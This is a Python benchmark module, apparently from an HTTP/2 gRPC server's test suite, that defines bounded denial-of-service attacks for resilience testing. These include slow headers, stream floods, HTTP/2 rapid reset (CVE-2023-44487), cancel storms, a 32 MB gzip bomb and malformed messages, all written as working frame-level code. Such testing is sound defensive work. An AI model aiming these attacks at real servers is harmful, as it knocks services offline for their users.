"""What attackers do, each bounded in count and rate; attacks.py measures what others notice of it."""

import functools
import struct
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from benchmarks.frames import (
    CANCEL,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    Peer,
    frame,
    headers,
    message,
)
from benchmarks.load import image_request

TURN_S = 0.02
"""Seconds between two rounds of an attack."""


@dataclass(frozen=True)
class Assault:
    """An attack: what it opens at once, and what it goes on sending."""

    name: str
    peers: int
    """Connections."""
    open: Callable[[str], Peer]
    """Makes one connection, from the address."""
    send: Callable[[Peer], int] | None = None
    """Sends one round on a connection, and returns how many streams or bytes that was."""
    unit: str = "connections"
    """What is counted."""
    turn_s: float = TURN_S
    """Seconds between two rounds."""

    def run(self, address: str, seconds: float, halted: threading.Event) -> tuple[int, int]:
        """Attacks for so many seconds, then closes every connection; returns what was sent, and who was cut off."""
        peers = [self.open(address) for _ in range(self.peers)]
        sent, ends = 0 if self.send else self.peers, time.monotonic() + seconds
        while time.monotonic() < ends and not halted.is_set():
            for peer in peers:
                if self.send and peer.is_open:
                    sent += self.send(peer)
                    peer.drain()
                halted.wait(self.turn_s / self.peers)
        cut_off = 0
        for peer in peers:
            peer.drain()
            cut_off += not peer.is_open
            peer.close()
        return sent, cut_off


def assaults(share: float = 1.0) -> Iterator[Assault]:
    """Lists all attacks; a share below 1 makes them smaller."""

    def some(count: int) -> int:
        return max(1, round(count * share))

    yield Assault("idle connections", some(1000), Peer)
    yield Assault("silent connections", some(200), lambda address: Peer(address, b""))
    yield Assault("slow headers", some(200), _slow, lambda peer: _send(peer, b"\x00"), "bytes")
    yield Assault("10,000 hanging calls", some(100), Peer, lambda peer: _hang(peer, 100), "calls", turn_s=0.08)
    yield Assault("10,000 streams at once", 1, Peer, lambda peer: _flood(peer, some(10_000)), "streams")
    yield Assault("rapid reset", 4, Peer, lambda peer: _reset(peer, some(20)), "streams")
    yield Assault("1 ms deadlines", 4, Peer, lambda peer: _call(peer, some(4), "1m"), "calls")
    yield Assault("cancel storm", 4, Peer, lambda peer: _cancel(peer, some(8)), "calls")
    yield Assault("gzip bombs", 2, Peer, _bomb, "bombs", turn_s=0.1)
    yield Assault("malformed messages", 4, Peer, lambda peer: _malformed(peer, some(4)), "calls")


def _send(peer: Peer, data: bytes, count: int = 1) -> int:
    peer.send(data)
    return count


def _slow(address: str) -> Peer:
    """Begins a header block of 8,000 bytes and sends one of them at a time."""
    return Peer(address, PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 0, 1, bytes(8000))[:9])


def _hang(peer: Peer, most: int) -> int:
    """Opens another call, up to so many on a connection, and sends no message."""
    if peer.streams >= most:
        return 0
    return _send(peer, frame(HEADERS, END_HEADERS, peer.stream(), headers()))


def _flood(peer: Peer, count: int) -> int:
    """Opens calls on one connection all at once, whatever the server says of how many it takes."""
    if peer.streams >= count:
        return 0
    for _ in range(count // 100):
        peer.send(b"".join(frame(HEADERS, END_HEADERS, peer.stream(), headers()) for _ in range(100)))
        peer.drain()
    return count


def _reset(peer: Peer, count: int) -> int:
    """Opens calls and resets them at once: CVE-2023-44487."""
    block, streams = headers(), [peer.stream() for _ in range(count)]
    opened = [frame(HEADERS, END_HEADERS, at, block) + frame(RST_STREAM, 0, at, CANCEL) for at in streams]
    return _send(peer, b"".join(opened), count)


def _call(peer: Peer, count: int, timeout: str) -> int:
    """Makes whole calls with a deadline that has nearly passed."""
    block, body = headers(grpc_timeout=timeout), message(image_request(28))
    return _send(peer, b"".join(_whole(peer.stream(), block, body) for _ in range(count)), count)


def _cancel(peer: Peer, count: int) -> int:
    """Makes whole calls and cancels them when they are about to be computed."""
    block, body, streams = headers(), message(image_request(28)), [peer.stream() for _ in range(count)]
    peer.send(b"".join(_whole(at, block, body) for at in streams))
    time.sleep(0.001)
    return _send(peer, b"".join(frame(RST_STREAM, 0, at, CANCEL) for at in streams), count)


def _bomb(peer: Peer) -> int:
    """Sends 32 MB of zeros in 32 KB, which the window of a new stream takes at once."""
    body, at = message(_bomb_bytes(), compressed=True), peer.stream()
    peer.send(frame(HEADERS, END_HEADERS, at, headers(grpc_encoding="gzip")))
    parts = [body[start : start + 16_384] for start in range(0, len(body), 16_384)]
    for part in parts:
        peer.send(frame(DATA, END_STREAM if part is parts[-1] else 0, at, part))
    return 1


@functools.cache
def _bomb_bytes() -> bytes:
    squeezed = zlib.compressobj(9, zlib.DEFLATED, 31)
    return squeezed.compress(bytes(32 << 20)) + squeezed.flush()


def _malformed(peer: Peer, count: int) -> int:
    """Calls with bytes that are no message."""
    block, body = headers(), message(struct.pack(">I", 0xFFFFFFFF))
    return _send(peer, b"".join(_whole(peer.stream(), block, body) for _ in range(count)), count)


def _whole(at: int, block: bytes, body: bytes) -> bytes:
    return frame(HEADERS, END_HEADERS, at, block) + frame(DATA, END_STREAM, at, body)
